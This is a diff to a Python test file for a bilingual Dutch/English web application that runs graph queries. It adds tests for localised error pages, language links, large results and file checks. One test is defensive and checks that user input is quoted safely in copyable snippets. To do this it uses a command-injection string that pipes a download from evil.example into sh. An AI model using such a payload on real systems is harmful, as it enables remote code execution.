@@ -1,6 +1,9 @@
 """The pages of the application in a real browser: those of the site, under a strict policy."""
 
+import ast
+import shlex
 from collections.abc import Iterator
+from html import unescape
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote
@@ -110,6 +113,68 @@ def test_what_nobody_knows_is_no_page(server: Served) -> None:
     assert server.get("/network.html", params={"query": service}).status_code == 403
 
 
+def test_a_mistake_is_told_among_the_pages_in_the_language_of_who_asks(server: Served) -> None:
+    server.get("/", "text/html")
+    for path, title, way in (
+        ("/questions/changes.html?date=9999-99-99", "De vraag klopt niet", "changes.html"),
+        ("/en/questions/actor.html?actor=nope", "There is no such thing here", "actor.html"),
+        ("/analyses/paths.html?from=rvb&to=rvb", "Dit is er niet", "paths.html"),
+        ("/nothing.html", "Dit is er niet", "index.html"),
+    ):
+        text = server.get(path, "text/html").text
+        assert f"<h1>{title}</h1>" in text
+        assert f'{way}">' in text
+        assert "<nav" in text
+
+
+def test_the_other_language_asks_the_same(server: Served) -> None:
+    for path, query in (
+        ("questions/actor.html", "actor=college"),
+        ("analyses/paths.html", "from=raad&amp;to=rvb"),
+        ("network.html", "query=SELECT"),
+    ):
+        asked = query.replace("&amp;", "&") if "SELECT" not in query else f"query={ASKED}"
+        assert 'class="turn" href="' in (text := server.get(f"/{path}?{asked}", "text/html").text)
+        assert f"en/{path}?{query}" in text
+
+
+def test_actors_are_found_whatever_the_capitals(server: Served) -> None:
+    for name in ("RVB", "Raad van Bestuur", "rvb"):
+        path = f"/analyses/paths.html?from=raad&to={name}"
+        assert 'value="rvb"' in server.get(path, "text/html").text
+        assert server.get(f"/api/paths?from=raad&to={name}").status_code == 200
+
+
+def test_what_is_to_be_copied_runs_nothing_else(server: Served) -> None:
+    """Whatever a link fills in is one word of the shell, and one string in Python."""
+    hostile = "x'; curl evil.example | sh; echo \" ')"
+    path = "/questions/section.html"
+    given = {"document": "berenschot-2023", "section": hostile}
+    text = server.get(path, "text/html", params=given).text
+    blocks = [
+        unescape(part.partition("</code>")[0]) for part in text.split('<pre tabindex="0"><code>')
+    ]
+    command = next(b for b in blocks if b.startswith("wijgraph query run"))
+    assert shlex.split(command)[-1] == f"section={hostile}"
+    tree = ast.parse(next(b for b in blocks if b.startswith("import wijgraph")))
+    keywords = [k for node in ast.walk(tree) if isinstance(node, ast.Call) for k in node.keywords]
+    assert {k.arg: ast.literal_eval(k.value) for k in keywords} == given
+
+
+def test_large_answers_are_not_drawn(server: Served) -> None:
+    """Laying out takes far longer for twice as many lines: above some there is the text alone."""
+    kind, below = f"<{GOV}Actor>", "<http://www.w3.org/2000/01/rdf-schema#subClassOf>"
+    pairs = (
+        f"SELECT DISTINCT ?a ?b {{ ?a a/{below}* {kind} . ?b a/{below}* {kind} FILTER (?a != ?b) }}"
+    )
+    refused = server.get("/network.html", params={"query": pairs})
+    assert "te veel rijen" in refused.text
+    many = server.get("/en/network.html", params={"query": f"{pairs} LIMIT 300"}).text
+    assert many.count("<tr data-row") == 300
+    assert 'class="box"' not in many or "too large to draw" in many
+    assert "Wat er" not in many
+
+
 def test_an_answer_is_seen_as_a_network(server: Served, browser: Any) -> None:
     visit = Visit(browser, server=server.url)
     page = visit.page
@@ -120,6 +185,8 @@ def test_an_answer_is_seen_as_a_network(server: Served, browser: Any) -> None:
     page.keyboard.press("Enter")
     assert "rij van het antwoord op een vraag" in page.locator("#panel").inner_text()
     visit.close()
+    dutch = server.get("/network.html?query=SELECT%20*%20%7B%20%3Fs%20a%20%3Fk%20%7D%20LIMIT%203")
+    assert "geen twee kolommen" in dutch.text
     none = server.get("/en/network.html?query=SELECT%20*%20%7B%20%3Fs%20a%20%3Fk%20%7D%20LIMIT%203")
     assert "No two columns of the answer name actors" in none.text
 
@@ -133,12 +200,23 @@ def test_a_file_is_checked(server: Served, browser: Any, tmp_path: Path) -> None
     page.locator("main form button").first.click()
     page.wait_for_load_state()
     assert "GOV-" in page.locator("body").inner_text()
+    visit.close()
+    visit = Visit(browser, server=server.url)
+    page = visit.page
+    (tmp_path / "mine.jsonld").write_text('{"@id": "http://a", "http://b": 1}')
+    page.goto(f"{server.url}check.html")
+    page.locator("input[type=file]").set_input_files(tmp_path / "mine.jsonld")
+    page.locator("main form button").first.click()  # its name says that this is JSON-LD
+    page.wait_for_load_state()
+    assert page.locator("h1").inner_text() != "Een bestand toetsen"
     page.goto(f"{server.url}check.html")
     page.locator("textarea").fill("dit is geen Turtle")
+    visit.errors.clear()
     page.locator("form:has(textarea) button").first.click()
     page.wait_for_load_state()
-    assert "Turtle" in page.locator("body").inner_text()
-    assert [e for e in visit.errors if "400" not in e] == []
+    assert page.locator("h1").inner_text() == "Dit kan niet worden gelezen"
+    assert "not Turtle: dit is not" in page.locator("main").inner_text()
+    assert [e for e in visit.errors if "status of 400" not in e] == []
     visit.errors.clear()
     visit.close()
 
